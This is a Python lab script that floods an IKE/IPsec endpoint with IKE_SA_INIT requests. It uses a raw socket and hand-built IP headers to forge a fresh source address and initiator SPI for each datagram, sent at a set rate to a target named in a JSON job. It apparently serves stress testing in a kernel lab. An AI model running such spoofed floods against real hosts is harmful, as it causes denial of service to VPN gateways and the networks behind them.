#!/usr/bin/env python3
# A bounded flood of IKE_SA_INIT requests from spoofed source addresses,
# for the kernel lab only (issue 8: floods and DoS). Run inside a lab
# namespace as `python3 spoofed-flood.py JOB.json`; the job names the
# target, the request template (hex), how many datagrams at what rate (and
# for at most how long), and
# the first of the consecutive source addresses to claim. Each datagram
# gets its own source address and initiator SPI, so every one looks like a
# new initiator. The IP header is written here (raw socket, IP_HDRINCL):
# the namespace owns none of those addresses and answers to them go
# nowhere. Prints `started` once the socket is open (interpreter start-up
# is slow in the lab) and then one JSON line: sent, send errors, seconds, rate.
import json
import socket
import struct
import sys
import time

job = json.load(open(sys.argv[1]))
template = bytearray.fromhex(job['template'])
address, port = job['address'], job['port']
count, rate = int(job['count']), float(job['rate'])
first_source = struct.unpack('!I', socket.inet_aton(job['firstSource']))[0]
sources = int(job['sources'])
spi_tag = int(job.get('spiTag', 0x0f100d00))
max_seconds = float(job.get('maxSeconds', 60))

sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
sock.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
udp_length = 8 + len(template)
total_length = 20 + udp_length
destination = socket.inet_aton(address)
struct.pack_into('!I', template, 0, spi_tag)

# Bursts every 5 ms keep the rate even without a system call per datagram for the clock.
burst = max(1, int(rate // 200))
sent = errors = 0
print('started', flush=True)
start = time.monotonic()
while sent < count:
    due = start + sent / rate
    now = time.monotonic()
    if now - start >= max_seconds:
        break  # bounded in time too, whatever rate the lab's CPU allows
    if due > now:
        time.sleep(due - now)
    for _ in range(min(burst, count - sent)):
        source = struct.pack('!I', first_source + sent % sources)
        struct.pack_into('!I', template, 4, sent)  # SPIi: tag | sequence number
        # Version/IHL, TOS, length, id (0: the kernel fills it), flags, TTL, UDP, checksum (kernel), addresses.
        ip = struct.pack('!BBHHHBBH4s4s', 0x45, 0, total_length, 0, 0, 64, socket.IPPROTO_UDP, 0, source, destination)
        udp = struct.pack('!HHHH', 500, port, udp_length, 0)  # UDP checksum 0: none (allowed over IPv4)
        try:
            sock.sendto(ip + udp + template, (address, 0))
        except OSError:
            errors += 1
        sent += 1
seconds = time.monotonic() - start
print(json.dumps({'sent': sent, 'errors': errors, 'seconds': round(seconds, 3), 'rate': round(sent / seconds)}))
